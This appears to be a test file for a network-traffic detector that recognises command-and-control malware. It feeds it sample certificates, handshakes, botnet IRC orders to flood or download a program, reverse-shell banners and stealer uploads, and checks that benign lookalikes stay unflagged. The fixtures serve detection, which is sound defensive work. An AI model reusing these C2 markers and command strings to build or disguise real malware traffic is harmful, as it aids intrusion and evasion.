/** Programs that control hosts are told by their marks; what only looks a little like them is not. Marks: github.com/silence-is-best/c2db and the default profiles. */
import { describe, expect, test } from 'vitest';
import { c2Framework } from '../../../src/analysis/detectors/registry.ts';
import { checkFilter } from '../../../src/analysis/filtering.ts';
import { analyzeCapture, findingsOf, hasShared, shared } from '../../support/analyzeCapture.ts';
import { clientHello, dialogue, lookUps, SERVER, shownCertificate, web, type RequestOptions } from '../../support/dialogue.ts';
import { confidenceSum, MessageDriver } from '../../support/messageDriver.ts';

const run = async (capture: Uint8Array) => findingsOf(await analyzeCapture(capture), 'c2-framework');
const said = async (lines: Parameters<typeof dialogue>[0], port = 4444) => (await run(dialogue(lines, { port }).bytes())).map(({ title }) => title);

describe('a certificate', () => {
  const shown = (subject: string) => {
    const driver = new MessageDriver(c2Framework),
      flow = driver.flow('10.0.0.5', SERVER, 6606, 'tls');
    return driver.say(flow, clientHello()).say(flow, shownCertificate({ subject, issuer: subject })).findings;
  };
  test.each([
    ['CN=AsyncRAT Server', 'AsyncRAT'],
    ['C=Earth, ST=Cyberspace, L=Somewhere, O=cobaltstrike, OU=AdvancedPenTesting, CN=Major Cobalt Strike', 'Cobalt Strike'],
    ['CN=Quasar Server CA', 'QuasarRAT'],
    ['C=US, ST=Minnesota, L=Minnetonka, O=Pajfds, OU=Jethpro, CN=P18055077', 'PoshC2'],
  ])('%s', (subject, name) => {
    const [finding, ...others] = shown(subject);
    expect(others).toEqual([]);
    expect(finding).toMatchObject({ what: name, severity: 'high', framesTotal: 1 });
    expect(finding!.confidence).toBe(confidenceSum(finding!));
    expect(checkFilter(finding!.filter)).toMatchObject({ ok: true });
  });
  test.each(['CN=quasar.example.org', 'O=Server CA', 'CN=multiplayer.example.org'])('silent on %s', (subject) => expect(shown(subject)).toEqual([]));
});

describe('first words', () => {
  test.each([
    ['STRRAT', '144\r\n\r\nping|STRRAT|C4BA3647|USER-PC|admin|Microsoft Windows 7'],
    ['njRAT', "165\0ll|'|'|SGFjS2VkXzEyMzQ1Njc4|'|'|USER-PC|'|'|admin|'|'|21-01-01|'|'||'|'|Win 7"],
    ['Gh0st RAT', 'Gh0st\xad\0\0\0\xe0\0\0\0x\x9cKS``\x98\xc3\xc0'],
    ['Gafgyt', '!* SCANNER ON\n!* SCANNER OFF\n'],
    ['Gafgyt', '!* TCP 198.51.100.7 80 60 32 0 10\n'],
    ['DarkComet', 'BF7CAB464EFBA57DAD495BECB15D8B4C57F0BE82'],
    // [MC-NMF]: version 1.0, mode duplex, the address it goes to.
    ['RedLine, which speaks net.tcp to an address without a name', '\0\x01\0\x01\x02\x02\x1fnet.tcp://203.0.113.9:15647/\x03\x08\x0c'],
    ['Ave Maria', 'con|1597172877123|285|ZTkyNGVhNzkxMjU1N2RlZHxKT05BVEhBTi1QQ1xKb25hdGhhbnwp'],
    ['a remote shell', 'Microsoft Windows [Version 6.1.7601]\r\nCopyright (c) 2009 Microsoft Corporation.\r\n\r\nC:\\Users>'],
    ['a remote shell', 'bash: no job control in this shell\nbash-4.2$ '],
  ])('of %s', async (name, text) => expect(await said([['client', text]])).toEqual([`Marks of ${name} between 10.0.0.5 and ${SERVER} port 4444`]));

  describe('of a bot on IRC, whatever it is called', () => {
    const session = (...lines: readonly (readonly ['client' | 'server', string])[]) =>
      said(
        [
          ['client', 'NICK n-821034\r\nUSER virus * 0 :owned\r\n'],
          ['server', ':irc.x 001 n-821034 :Welcome\r\n'],
          ['client', 'JOIN #r key\r\n'],
          ...lines,
        ],
        6667,
      );
    test.each<[string, 'client' | 'server', string]>([
      ['an order in the topic', 'server', ':irc.x 332 n-821034 #r :.advscan asn1smb 100 5 0 -r -s\r\n'],
      ['an order to flood', 'server', ':boss!b@h PRIVMSG #r :.ddos.syn 198.51.100.7 80 600\r\n'],
      ['an order to fetch a program', 'server', ':boss!b@h PRIVMSG #r :.download http://203.0.113.9/a.exe c:\\a.exe 1\r\n'],
      ['an order of Kaiten', 'server', ':boss!b@h PRIVMSG #r :!* UDP 198.51.100.7 80 600\r\n'],
      ['a report', 'client', 'PRIVMSG #r :[SCAN]: Random Port Scan started on 10.0.x.x:445 with a delay of 5 seconds.\r\n'],
    ])('%s', async (_, side, line) => expect(await session([side, line])).toMatchObject([expect.stringContaining('a bot on IRC') as string]));
    test.each<[string]>([
      [':alice!a@h PRIVMSG #games :.hack//SIGN is great, you can download it at https://shop.example\r\n'],
      [':alice!a@h PRIVMSG #r :!help\r\n'],
      [':alice!a@h PRIVMSG #r :.update your kernel, see https://kernel.example\r\n'],
      [':alice!a@h PRIVMSG #r :!seen UDP people\r\n'],
      [':alice!a@h PRIVMSG #r :scan of the book: page 3\r\n'],
      [':alice!a@h PRIVMSG #r :[OFFTOPIC]: lunch?\r\n'],
    ])('silent on %j', async (line) => expect(await session(['server', line])).toEqual([]));
  });

  test('of a stage of Meterpreter', async () => {
    const stage = `\0\x98\x02\0MZARUH\x89\xe5H\x81\xec \0\0\0${'\x90'.repeat(2000)}`;
    expect(await said([['server', stage]])).toHaveLength(1);
  });
  test('a command, and what it says', async () => {
    expect(
      await said([
        ['server', 'ls -l\n'],
        ['client', 'total 12\n-rwxr-xr-x 1 root root 5 Jan 1 00:00 a\n'],
      ]),
    ).toHaveLength(1);
    expect(
      await said([
        ['server', 'hello\n'],
        ['client', 'total 12 apples\n'],
      ]),
    ).toEqual([]);
  });
  test.each([
    'ping\r\n',
    '!* SCANNER of books\n',
    '\0\x01\0\x01\x02\x02\x1dnet.tcp://orders.example:808/\x03\x08\x0c',
    'GET_INFO|1|2|3',
    'Gh0st story, chapter one\n',
    'Microsoft Word document\r\n',
    'NICK alice\r\nUSER alice 0 * :Alice\r\n',
  ])('silent on %j', async (text) => expect(await said([['client', text]])).toEqual([]));
});

test('the name that WannaCry asks for before it starts', async () => {
  const asked = async (name: string) => (await run(lookUps([name]).bytes())).map(({ title }) => title);
  expect(await asked('www.iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com')).toMatchObject([
    expect.stringMatching(/ asks \S+ for names of WannaCry$/) as string,
  ]);
  expect(await asked('www.wannacry.com')).toEqual([]);
});

describe('a thief of passwords that posts what it took', () => {
  /** APPNOTE.TXT 4.3.7: a local header, its first file's name at 30. */
  const zip = (name: string): string => `PK\x03\x04\x14\0\0\0\x08\0${'\0'.repeat(16)}${String.fromCharCode(name.length)}\0\0\0${name}data`;
  const posted = (name: string) =>
    said(
      web('/', {
        method: 'POST',
        headers: 'Host: 203.0.113.9\r\nContent-Type: multipart/form-data; boundary=x\r\n',
        body: `--x\r\nContent-Disposition: form-data; name="logs"; filename="a.zip"\r\n\r\n${zip(name)}\r\n--x--\r\n`,
      }),
      80,
    );
  test.each(['passwords.txt', 'Chrome/Passwords.txt', 'UserInformation.txt', 'System Info.txt'])('with %s first', async (name) =>
    expect(await posted(name)).toMatchObject([expect.stringContaining('a password thief that reports by HTTP') as string]),
  );
  test.each(['report.txt', 'word/document.xml', 'passwords.txt.html.erb'])('silent on %s', async (name) => expect(await posted(name)).toEqual([]));
});

describe('requests', () => {
  const asked = async (uri: string, options: RequestOptions = {}) => said(web(uri, options), 80);
  const EMPIRE = 'Host: a\r\nUser-Agent: Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko\r\nCookie: session=abcd\r\n',
    IE = 'Accept: */*\r\nCookie: SdNz0lQ=\r\nUser-Agent: Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)\r\nHost: a\r\n';
  test.each<[string, string, RequestOptions]>([
    ['Empire', '/admin/get.php', { headers: EMPIRE }],
    ['Cobalt Strike', '/__utm.gif', { headers: IE }],
    ['Cobalt Strike', '/submit.php?id=38152', { method: 'POST', body: 'xxxx' }],
    // GNU httptunnel 3.3, recorded.
    ['httptunnel', '/index.html?crap=1795809988', { headers: 'Host: 203.0.113.9:8888\r\nConnection: close\r\n' }],
    ['httptunnel', '/index.html?crap=1795809988', { method: 'POST', headers: 'Host: 203.0.113.9:8888\r\nConnection: close\r\n', body: '\x01\0\x06' }],
    ['TrickBot', '/ser0918us/HOST_W617601.0123456789ABCDEF0123456789ABCDEF/5/spk/', {}],
    ['Hancitor', '/8/forum.php', { method: 'POST', body: 'GUID=11299063402752&BUILD=1502_kan&INFO=PC&IP=192.0.2.1&TYPE=1' }],
    ['Amadey', '/madapam/index.php', { method: 'POST', body: 'id=6289217249&sd=MMMMMM&vs=1.43&ar=0&bi=0&lv=0&os=9&av=0&pc=USER-PC&un=admin&' }],
    ['FormBook', `/n8ds/?LZQd=${'aB3'.repeat(25)}==&Ktx0=8pLT`, { headers: 'Host: www.a.example\r\nConnection: close\r\n' }],
    [
      'Covenant',
      '/en-us/test.html',
      { method: 'POST', body: 'i=a19ea23062db990386a3a478cb89d52e&data=x&session=75db-99b1-25fe4e9afbe58696-320bea73' },
    ],
  ])('of %s', async (name, uri, options) => expect(await asked(uri, options)).toEqual([`Marks of ${name} between 10.0.0.5 and ${SERVER} port 80`]));
  test('a stager: four letters whose sum is 92, and a program comes', async () => {
    // 'W' is 87, and 4 * 87 % 256 = 92.
    expect(await asked('/WWWW', { answer: '\xfc\xe8'.repeat(30_000), answerHeaders: 'Content-Type: application/octet-stream\r\n' })).toHaveLength(1);
    expect(await asked('/WWWZ', { answer: '\xfc\xe8'.repeat(30_000), answerHeaders: 'Content-Type: application/octet-stream\r\n' })).toEqual([]);
  });
  test.each<[string, RequestOptions]>([
    ['/news.php', {}],
    ['/ga.js', { headers: `${IE}Referer: http://a/\r\nAccept-Language: de\r\n` }],
    ['/images/a/b/c/d/e/photo.jpeg', {}],
    ['/?q=hello&n=1', { headers: 'Host: a\r\nConnection: close\r\n' }],
    ['/forum.php', { method: 'POST', body: 'GUID=abc&text=hello' }],
  ])('silent on %s', async (uri, options) => expect(await asked(uri, options)).toEqual([]));
});

// chisel's share/version.go: ProtocolVersion "chisel-v3", which client and server name as the protocol of their WebSocket.
test('tunnels in WebSocket, by the protocol agreed on; not what honest pages agree on', async () => {
  const agreed = async (uri: string, protocol: string) =>
    said(
      [
        ['client', `GET ${uri} HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Protocol: ${protocol}\r\n\r\n`],
        ['server', `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-Websocket-Protocol: ${protocol}\r\n\r\n`],
      ],
      80,
    );
  expect(await agreed('/', 'chisel-v3')).toHaveLength(1);
  expect(await agreed('/v1/events', 'v1')).toHaveLength(1);
  expect(await agreed('/chat', 'v1')).toEqual([]);
  expect(await agreed('/mqtt', 'mqtt')).toEqual([]);
});

test('questions for names', async () => {
  expect(await run(lookUps(['aaa.stage.1234567.evil.example', 'dnscat.0123456789.evil.example']).bytes())).toHaveLength(2);
  expect(await run(lookUps(['www.stage.example', 'cat.example']).bytes())).toEqual([]);
});

// Zeek's package tests raise notices for the first two; tshark shows the pages of Empire, and on port 9001 "ls -l" coming in and a listing going out.
test.runIf(hasShared).each([
  ['c2__09ffabf7-774a-43a3-8c97-68f2046fd385.pcap', 'QuasarRAT', '86.136.67.231', 1337],
  ['c2__strrat-4423258f-59bc-4a88-bfec-d8ac08c88538.pcap', 'STRRAT', '185.255.114.40', 8219],
  ['lateral__empire_psexec_dcerpc_tcp_svcctl_WORKSTATION5_2020-09-20121608.cap', 'Empire', '10.10.10.5', 80],
  ['exploit__log4j-attack.pcap', 'a remote shell', '203.0.113.217', 9001],
])('recorded: %s', async (file, name, server, port) => {
  const found = findingsOf(await analyzeCapture(shared(file)), 'c2-framework');
  expect(found.map(({ title, subjects }) => [title.startsWith(`Marks of ${name} `), subjects[1]!.address, subjects[1]!.port])).toEqual([
    [true, server, port],
  ]);
});
